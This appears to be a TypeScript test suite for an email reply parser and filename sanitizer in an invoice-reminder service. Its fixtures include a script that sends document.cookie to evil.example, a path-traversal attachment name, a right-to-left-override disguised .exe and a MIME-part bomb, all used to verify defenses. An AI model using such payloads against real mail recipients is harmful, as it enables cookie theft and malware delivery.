import assert from 'node:assert/strict';
import { describe, test } from 'vitest';
import { type ParsedReply, parseReply, type ReplyRefusal, safeFilename } from '#adapters/parse-reply.ts';
import { classifyReply } from '#domain/replies/classify.ts';

// Raw messages as they arrive over SMTP: CRLF line ends.
const crlf = (text: string) => text.replace(/\r?\n/g, '\r\n');

function parsed(result: ParsedReply | ReplyRefusal): ParsedReply {
  assert.equal(result.kind, 'parsed', JSON.stringify(result));
  return result as ParsedReply;
}

const germanReply = crlf(`From: =?UTF-8?Q?J=C3=BCrgen_M=C3=BCller?= <J.Mueller@Beispiel-GmbH.DE>
To: "Acme Buchhaltung" <Reply+R-1001.Sig@Replies.Dunwell.example>
Cc: Buchhaltung <Buchhaltung@Beispiel-GmbH.de>, Einkauf: einkauf@beispiel-gmbh.de, Lager@Beispiel-GmbH.de;
Subject: AW: Zahlungserinnerung =?UTF-8?Q?f=C3=BCr_Rechnung_R-1001?=
Date: Mon, 07 Dec 2026 09:45:00 +0100
Message-ID: <reply-1@beispiel-gmbh.de>
In-Reply-To: <reminder-1@dunwell.example>
References: <reminder-0@dunwell.example>
 <reminder-1@dunwell.example>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="alt-1"

--alt-1
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

Sehr geehrte Damen und Herren,

wir haben die Rechnung bereits am 01.12. =C3=BCberwiesen. Die Zahlung sollte =
in K=C3=BCrze eingehen.

Mit freundlichen Gr=C3=BC=C3=9Fen
J=C3=BCrgen M=C3=BCller

Am 07.12.2026 um 09:12 schrieb Acme Buchhaltung <erinnerung@dunwell.example>:
> Bitte =C3=BCberweisen Sie den Betrag bis zum 15.12.2026.

--alt-1
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

<html><body><p>Sehr geehrte Damen und Herren,</p><p>wir haben die Rechnung =
bereits am 01.12. =C3=BCberwiesen.</p><img src=3D"https://tracker.example/p=
ixel.gif"></body></html>

--alt-1--
`);

const htmlOnly = crlf(`From: Tom Baker <tom@customer.example>
To: reply+inv-1.sig@replies.dunwell.example
Subject: Re: Payment reminder
Date: Mon, 7 Dec 2026 10:00:00 +0000
Message-ID: <html-only@customer.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><style>p { color: red }</style><script>fetch('https://evil.example/?c=' + document.cookie)</script></head>
<body onload="steal()"><p>Hi,</p><p>we will pay on <b>15 December</b>.</p>
<script>alert('owned')</script><iframe src="https://evil.example"></iframe>
<blockquote><p>Please pay invoice INV-1 by 15 December 2026.</p></blockquote></body></html>
`);

// A tiny but real-looking PDF: what matters is that its bytes come back unchanged.
const pdfBytes = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n', 'latin1');
const wrapped = (bytes: Buffer) => bytes.toString('base64').replace(/.{1,76}/g, '$&\n');

const withAttachments = crlf(`From: ap@customer.example
To: reply+inv-1.sig@replies.dunwell.example
Subject: Remittance advice
Date: Mon, 7 Dec 2026 10:00:00 +0000
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="mixed-1"

--mixed-1
Content-Type: text/plain; charset=us-ascii

Payment was made yesterday, remittance advice attached.

--mixed-1
Content-Type: application/pdf; name="../../etc/passwd.pdf"
Content-Disposition: attachment; filename="../../etc/passwd.pdf"
Content-Transfer-Encoding: base64

${wrapped(pdfBytes)}
--mixed-1
Content-Type: application/pdf
Content-Disposition: attachment; filename*=UTF-8''Zahlungsbest%C3%A4tigung%E2%80%AEfdp.exe
Content-Transfer-Encoding: base64

${wrapped(pdfBytes)}
--mixed-1
Content-Type: application/octet-stream
Content-Disposition: attachment
Content-Transfer-Encoding: base64

${wrapped(Buffer.from('no name'))}
--mixed-1--
`);

const outOfOffice = crlf(`Return-Path: <>
From: Anna Schmidt <anna@kunde.example>
To: reply+inv-2.sig@replies.dunwell.example
Subject: =?UTF-8?B?QXV0b21hdGlzY2hlIEFudHdvcnQ6IFphaGx1bmdzZXJpbm5lcnVuZw==?=
Date: Mon, 7 Dec 2026 09:13:00 +0100
Auto-Submitted: auto-replied
X-Auto-Response-Suppress: All
Precedence: auto_reply
List-Id: Kunde Buchhaltung <buchhaltung.kunde.example>
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Ich bin bis zum 14.12. nicht im Büro. Überweisungen erledige ich danach.
`);

describe('parseReply', () => {
  test('multipart/alternative: the plain part, quoted-printable umlauts decoded, addresses lower-cased', async () => {
    const reply = parsed(await parseReply(germanReply));
    assert.deepEqual(reply.from, { address: 'j.mueller@beispiel-gmbh.de', name: 'Jürgen Müller' });
    assert.deepEqual(reply.to, ['reply+r-1001.sig@replies.dunwell.example']);
    assert.deepEqual(reply.cc, ['buchhaltung@beispiel-gmbh.de', 'einkauf@beispiel-gmbh.de', 'lager@beispiel-gmbh.de']);
    assert.equal(reply.subject, 'AW: Zahlungserinnerung für Rechnung R-1001');
    assert.equal(reply.messageId, '<reply-1@beispiel-gmbh.de>');
    assert.equal(reply.inReplyTo, '<reminder-1@dunwell.example>');
    assert.deepEqual(reply.references, ['<reminder-0@dunwell.example>', '<reminder-1@dunwell.example>']);
    assert.equal(reply.date, '2026-12-07T08:45:00.000Z');
    assert.match(
      reply.text,
      /^Sehr geehrte Damen und Herren,\n\nwir haben die Rechnung bereits am 01\.12\. überwiesen\. Die Zahlung sollte in Kürze eingehen\./,
    );
    assert.match(reply.text, /Mit freundlichen Grüßen\nJürgen Müller/);
    assert.equal(reply.textTruncated, false);
    assert.equal('html' in reply, false);
    assert.deepEqual(reply.attachments, []);
    assert.equal(reply.skippedAttachments, 0);
    assert.equal(reply.rawBytes, Buffer.byteLength(germanReply));
    assert.deepEqual(reply.autoReplyHeaders, {
      autoSubmitted: undefined,
      xAutoreply: undefined,
      xAutorespond: undefined,
      precedence: undefined,
      xAutoResponseSuppress: undefined,
      listId: undefined,
      returnPathEmpty: false,
    });
    // The parsed text feeds the classifier: the quoted "bis zum 15.12.2026" does not count.
    const result = classifyReply({ text: reply.text, subject: reply.subject, headers: reply.autoReplyHeaders, today: '2026-12-07' });
    assert.equal(result.kind, 'payment_claimed');
  });

  test('HTML only: text derived from it, no HTML anywhere in the result, scripts gone', async () => {
    const reply = parsed(await parseReply(Buffer.from(htmlOnly)));
    assert.match(reply.text, /Hi,\s+we will pay on 15 December\./);
    assert.match(reply.text, /> Please pay invoice INV-1 by 15 December 2026\./);
    for (const key of ['html', 'textAsHtml']) assert.equal(key in reply, false, key);
    const everything = JSON.stringify(reply);
    for (const banned of ['<script', 'alert', 'document.cookie', 'evil.example', '<p>', 'onload', 'color: red']) {
      assert.equal(everything.includes(banned), false, banned);
    }
    const result = classifyReply({ text: reply.text, subject: reply.subject, headers: reply.autoReplyHeaders, today: '2026-12-07' });
    assert.equal(result.kind, 'promise');
    assert.equal(result.promisedDate, '2026-12-15');
  });

  test('attachments: decoded base64, exact size, names made safe', async () => {
    const reply = parsed(await parseReply(withAttachments));
    assert.equal(reply.attachments.length, 3);
    const [pdf, disguised, nameless] = reply.attachments;
    assert.equal(pdf?.filename, 'passwd.pdf');
    assert.equal(pdf?.contentType, 'application/pdf');
    assert.equal(pdf?.size, pdfBytes.length);
    assert.deepEqual(pdf?.content, pdfBytes);
    assert.equal(pdf?.inline, false);
    // U+202E (right-to-left override) would show "Zahlungsbestätigungexe.pdf".
    assert.equal(disguised?.filename, 'Zahlungsbestätigungfdp.exe');
    assert.equal(nameless?.filename, 'attachment-3');
    assert.equal(nameless?.size, 7);
    assert.equal(reply.skippedAttachments, 0);
  });

  test('attachments over the count or the size limit are skipped and counted', async () => {
    const byCount = parsed(await parseReply(withAttachments, { maxAttachments: 1 }));
    assert.equal(byCount.attachments.length, 1);
    assert.equal(byCount.skippedAttachments, 2);
    const bySize = parsed(await parseReply(withAttachments, { maxAttachmentBytes: 10 }));
    assert.deepEqual(
      bySize.attachments.map((attachment) => attachment.filename),
      ['attachment-3'],
    );
    assert.equal(bySize.skippedAttachments, 2);
  });

  test('automatic-reply headers are surfaced, and classify the reply as auto_reply', async () => {
    const reply = parsed(await parseReply(outOfOffice));
    assert.deepEqual(reply.autoReplyHeaders, {
      autoSubmitted: 'auto-replied',
      xAutoreply: undefined,
      xAutorespond: undefined,
      precedence: 'auto_reply',
      xAutoResponseSuppress: 'All',
      listId: 'Kunde Buchhaltung <buchhaltung.kunde.example>',
      returnPathEmpty: true,
    });
    assert.equal(reply.subject, 'Automatische Antwort: Zahlungserinnerung');
    const result = classifyReply({ text: reply.text, subject: reply.subject, headers: reply.autoReplyHeaders, today: '2026-12-07' });
    assert.equal(result.kind, 'auto_reply');
    assert.equal(result.evidence, 'Auto-Submitted: auto-replied');
  });

  test('encoded-word subjects: base64 and quoted-printable, split over folded lines', async () => {
    const raw = crlf(`From: =?ISO-8859-1?Q?Fran=E7ois_L=E9vy?= <francois@client.example>
To: reply+x.sig@replies.dunwell.example
Subject: =?UTF-8?B?UkU6IFJlbGFuY2UgZmFjdHVyZSBGLTEwMDEg4oCU?=
 =?UTF-8?B?IGTDqWrDoCByw6lnbMOpZQ==?=
Content-Type: text/plain; charset=iso-8859-1
Content-Transfer-Encoding: quoted-printable

D=E9j=E0 r=E9gl=E9e.
`);
    const reply = parsed(await parseReply(raw));
    assert.equal(reply.subject, 'RE: Relance facture F-1001 — déjà réglée');
    assert.deepEqual(reply.from, { address: 'francois@client.example', name: 'François Lévy' });
    assert.equal(reply.text.trim(), 'Déjà réglée.');
    assert.equal(reply.date, undefined);
    assert.equal(reply.messageId, undefined);
  });

  test('a raw message over the limit is refused unread, saying so', async () => {
    const huge = `Subject: big\r\n\r\n${'a'.repeat(10 * 1024 * 1024)}`;
    const refusal = await parseReply(huge);
    assert.equal(refusal.kind, 'refused');
    assert.equal((refusal as ReplyRefusal).reason, 'too_large');
    assert.match((refusal as ReplyRefusal).detail, /over the 10 MiB limit/);
    assert.equal(refusal.rawBytes, Buffer.byteLength(huge));
    const small = await parseReply(germanReply, { maxRawBytes: 1024 });
    assert.equal(small.kind, 'refused');
    assert.match((small as ReplyRefusal).detail, /over the 1 KiB limit/);
  });

  test('a message the parser gives up on is refused as unreadable, not thrown', async () => {
    // mailparser stops at 1,000 MIME parts: a reply bomb.
    const parts = Array.from({ length: 1100 }, (_, index) => `--b\r\nContent-Type: text/plain\r\n\r\npart ${index}\r\n`).join('');
    const refusal = await parseReply(`Subject: x\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n${parts}--b--\r\n`);
    assert.equal(refusal.kind, 'refused');
    assert.equal((refusal as ReplyRefusal).reason, 'unreadable');
    assert.match((refusal as ReplyRefusal).detail, /child nodes/);
  });

  test('text longer than the limit is cut and flagged', async () => {
    const raw = crlf(`From: a@b.example\nSubject: long\nContent-Type: text/plain; charset=utf-8\n\n${'Zahlung '.repeat(20)}\n`);
    const reply = parsed(await parseReply(raw, { maxTextChars: 16 }));
    assert.equal(reply.text, 'Zahlung Zahlung ');
    assert.equal(reply.textTruncated, true);
  });

  test('a Date header it cannot read is left out, not replaced by the current time', async () => {
    const reply = parsed(await parseReply(crlf('From: a@b.example\nDate: sometime last week\nSubject: x\n\nhello\n')));
    assert.equal(reply.date, undefined);
  });
});

describe('safeFilename', () => {
  test('keeps the last path segment, drops control and format characters, leading dots and reserved characters', () => {
    assert.equal(safeFilename('../../etc/passwd.pdf', 1), 'passwd.pdf');
    assert.equal(safeFilename('C:\\Users\\me\\Rechnung.pdf', 1), 'Rechnung.pdf');
    assert.equal(safeFilename('..', 2), 'attachment-2');
    assert.equal(safeFilename('.htaccess', 1), 'htaccess');
    assert.equal(safeFilename('a\u0000b\u0007c\r\n.pdf', 1), 'abc.pdf');
    assert.equal(safeFilename('invoice<1>:?*.pdf', 1), 'invoice_1____.pdf');
    assert.equal(safeFilename(undefined, 4), 'attachment-4');
    assert.equal(safeFilename('   ', 5), 'attachment-5');
  });

  test('at most 200 characters, the extension kept', () => {
    const name = safeFilename(`${'ä'.repeat(300)}.pdf`, 1);
    assert.equal(Array.from(name).length, 200);
    assert.ok(name.endsWith('ä.pdf'));
  });
});
